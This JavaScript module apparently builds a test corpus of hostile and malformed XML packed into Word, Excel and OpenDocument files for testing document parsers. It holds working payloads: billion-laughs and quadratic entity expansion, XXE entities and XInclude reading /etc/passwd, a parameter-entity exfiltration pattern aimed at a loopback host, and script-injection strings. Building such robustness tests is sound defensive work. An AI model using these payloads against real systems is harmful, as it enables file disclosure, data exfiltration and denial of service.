// xmls.mjs - XML that breaks or exhausts its readers, as the main part of Word, Excel and OpenDocument.
import { packed_text } from './zips.mjs';

// Where text stands in each kind, so that what is hostile is met by the reader and not passed over.
const around = {
	docx: (t, attributes = '') => `<w:document ${attributes}><w:body><w:p><w:r><w:t>${t}</w:t></w:r></w:p></w:body></w:document>`,
	xlsx: (t, attributes = '') => `<worksheet ${attributes}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>${t}</t></is></c></row></sheetData></worksheet>`,
	odt: (t, attributes = '') => `<office:document-content ${attributes}><office:body><office:text><text:p>${t}</text:p></office:text></office:body></office:document-content>`,
};
const laughs = (n, times) => `<!ENTITY a0 "ha">${Array.from({ length: n }, (_, i) => `<!ENTITY a${i + 1} "${`&a${i};`.repeat(times)}">`).join('')}`;
const utf16 = (s, big) => { const b = Buffer.from(s, 'utf16le'); return big ? b.swap16() : b; };

function texts(w) {
	const dtd = (inside, t) => `<!DOCTYPE x [${inside}]>${w(t)}`;
	const raw = (...bytes) => Buffer.concat([Buffer.from(w('@@').split('@@')[0]), Buffer.from(bytes), Buffer.from(w('@@').split('@@')[1])]);
	return {
		'entity': dtd('<!ENTITY a "b">', '&a;'),
		'laughs': dtd(laughs(9, 10), '&a9;'),
		'laughs-in-attribute': `<!DOCTYPE x [${laughs(9, 10)}]>${w('x', 'a="&a9;"')}`,
		'quadratic': dtd(`<!ENTITY a "${'h'.repeat(100_000)}">`, '&a;'.repeat(20_000)),
		'entity-loop': dtd('<!ENTITY a "&b;"><!ENTITY b "&a;">', '&a;'),
		'file-outside': dtd('<!ENTITY a SYSTEM "file:///etc/passwd">', '&a;'),
		'network-outside': dtd('<!ENTITY a SYSTEM "http://127.0.0.1:9/x">', '&a;'),
		'parameter-entity': dtd('<!ENTITY % a SYSTEM "file:///etc/passwd"><!ENTITY % b "<!ENTITY c SYSTEM \'http://127.0.0.1:9/?%a;\'>">%b;', '&c;'),
		'dtd-outside': `<!DOCTYPE x SYSTEM "file:///dev/zero">${w('x')}`,
		'dtd-public': `<!DOCTYPE x PUBLIC "-//W3C//DTD" "http://127.0.0.1:9/x.dtd">${w('x')}`,
		'attribute-list': dtd(`<!ATTLIST x ${Array.from({ length: 50_000 }, (_, i) => `a${i} CDATA "x"`).join(' ')}>`, 'x'),
		'unknown-entity': w('&khong-co;'),
		'xinclude': w('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
		'style-sheet': `<?xml-stylesheet href="file:///etc/passwd"?>${w('x')}`,
		'deep-1000': w('<a>'.repeat(1000) + '</a>'.repeat(1000)),
		'deep-1000000': w('<a>'.repeat(1_000_000) + '</a>'.repeat(1_000_000)),
		'deep-unclosed': w('<a>'.repeat(200_000)),
		'attributes-1000000': w('x', Array.from({ length: 1_000_000 }, (_, i) => `a${i}=""`).join(' ')),
		'attribute-10m': w('x', `a="${'x'.repeat(10_000_000)}"`),
		'attribute-twice': w('x', 'a="1" a="2"'),
		'name-5m': w(`<${'n'.repeat(5_000_000)}/>`),
		'namespaces': w('x', Array.from({ length: 100_000 }, (_, i) => `xmlns:n${i}="u${i}"`).join(' ')),
		'text-30m': w('Chữ '.repeat(6_000_000)),
		'pieces': w('<a/>x'.repeat(1_000_000)),
		'comment': w(`<!--${'-x'.repeat(2_000_000)}-->`),
		'comment-unclosed': w('<!--'),
		'cdata-unclosed': w('<![CDATA['),
		'cdata-markup': w('<![CDATA[<script>alert(1)</script>]]>'),
		'instruction-unclosed': w('<?x'),
		'mismatch': w('<a><b></a></b>'),
		'garbage-behind': `${w('x')}<a/>`,
		'two-roots': w('x').repeat(2),
		'empty': '',
		'blanks': ' '.repeat(900_000),
		'nul': raw(0, 0, 0),
		'control': raw(1, 2, 8, 0x1b, 0x1f),
		'lone-surrogate': raw(0xed, 0xa0, 0x80),
		'surrogate-pair': raw(0xed, 0xa0, 0xbd, 0xed, 0xb8, 0x80),
		'overlong': raw(0xc0, 0xbc, 0xe0, 0x80, 0xbc),
		'bad-utf8': raw(0xff, 0xfe, 0x80),
		'beyond-unicode': raw(0xf4, 0x90, 0x80, 0x80),
		'not-a-character': w('\ufffe\uffff'),
		'utf16-le': Buffer.concat([Buffer.from([0xff, 0xfe]), utf16(w('x'))]),
		'utf16-be-bare': utf16(w('x'), true),
		'utf16-cut': Buffer.concat([Buffer.from([0xff, 0xfe]), utf16(w('x')).subarray(0, 77)]),
		'utf16-surrogates': Buffer.concat([Buffer.from([0xff, 0xfe]), utf16(w('\ud800\ud800'))]),
		'utf32': Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), Buffer.from([...w('x')].flatMap((c) => [c.charCodeAt(0), 0, 0, 0]))]),
		'utf7': `<?xml version="1.0" encoding="UTF-7"?>${w('+ADw-script+AD4-')}`,
		'unknown-encoding': `<?xml version="1.0" encoding="ebcdic-cp-us"?>${w('x')}`,
		'encoding-lies': `<?xml version="1.0" encoding="UTF-16"?>${w('x')}`,
		'xml-1.1': `<?xml version="1.1"?>${w('&#1;')}`,
		'reference-0': w('&#0;'),
		'reference-surrogate': w('&#xD800;'),
		'reference-huge': w('&#x110000;&#99999999999999999999;'),
		'script': w('&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;'),
	};
}

export function* xmls() {
	for (const [kind, w] of Object.entries(around))
		for (const [what, text] of Object.entries(texts(w)))
			yield { name: `xml-${what}.${kind}`, bytes: packed_text(kind, text) };
}
